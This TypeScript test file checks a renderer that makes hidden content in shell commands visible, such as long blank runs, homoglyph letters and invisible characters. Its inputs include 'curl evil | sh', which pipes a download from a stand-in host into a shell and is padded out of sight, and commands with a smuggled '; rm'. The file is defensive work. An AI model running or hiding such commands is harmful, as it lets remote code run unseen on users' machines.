import { expect, test } from 'vitest';
import { textRuns } from './visible-text.tsx';

// A harmful line is between so many empty lines that a user would not find it.

const shown = (text: string) => textRuns(text).map((run) => run.escape ?? run.text);

test.for([' ', '\t', '\u3000', ' \u3000\t'])('attack: blank lines of %j are counted', (blank) => {
  const [before, lines, after] = shown(`echo\n${`${blank}\n`.repeat(500)}curl evil | sh\n`);
  expect([before, lines, after]).toEqual(['echo\n', '↵ ×500', 'curl evil | sh\n']);
});

test.for([' ', '\t', '\u3000'])('attack: many blanks (%j) are counted', (blank) => {
  expect(shown(`echo${blank.repeat(4000)};curl evil`)).toEqual([
    ...['echo', '␠ ×4000', ';curl evil'],
  ]);
});

test('the indentation of Chinese text stays as it is', () => {
  const text = '\u3000\u3000\u4f60\u597d\n\n\u3000\u3000\u4f60\u597d\n';
  expect(shown(text)).toEqual([text]);
});

test.for([
  ['c\u0430t x', ['c', '\\u0430', 't x']],
  ['\u0440\u0430ss \u043a\u043e\u0442', ['\\u0440', '\\u0430', 'ss \u043a\u043e\u0442']],
  ['g\u03b9t', ['g', '\\u03B9', 't']],
  ['\u043a\u043e\u0442', ['\u043a\u043e\u0442']],
] as const)(
  '18.82: attack: letters of %j that imitate Latin ones are shown by their code',
  ([text, runs]) => {
    expect(shown(text)).toEqual(runs);
  },
);

test.for([
  ['echo \u1100'.padEnd(400, '\u1100'), ['echo \u1100', '\\u1100 ×394']],
  [`e${'\u0300'.repeat(200)}`, ['e\u0300', '\\u0300 ×199']],
  [`${'\u0e33'.repeat(30)};`, ['\u0e33', '\\u0E33 ×29', ';']],
  [`e${'\u0337'.repeat(4)}${'\u0338'.repeat(5)}`, ['e\u0337', '\\u0337 ×3', '\\u0338 ×5']],
  ['\u0939\u093f\u0928\u094d\u0926\u0940 \u0e19\u0e49\u0e33\u0e43\u0e08', undefined],
  [
    '\u1112\u1161\u11ab\u1100\u1173\u11af \uc548\ub155\ud558\uc138\uc694 \u{1f44d}\u{1f3fd}',
    undefined,
  ],
] as const)(
  '18.1078: attack: the text %j has grapheme clusters that cannot wrap',
  ([text, runs]) => {
    expect(shown(text)).toEqual(runs ?? [text]);
  },
);

test.for([
  ['sh a1.sh 2#3*4 1\ufe0f\u20e3', undefined],
  ['sh a1\ufe0f.sh 2\ufe0f#\ufe0f', ['sh a1', '\\uFE0F', '.sh 2', '\\uFE0F', '#', '\\uFE0F']],
  ['npm test\u3000# x; rm', ['npm test', '\\u3000', '# x; rm']],
  ['npm test\ufffc# x; rm', ['npm test', '\\uFFFC', '# x; rm']],
] as const)(
  '18.1463: attack: the text %j has characters without a picture, or spaces that are none',
  ([text, runs]) => {
    expect(shown(text)).toEqual(runs ?? [text]);
  },
);
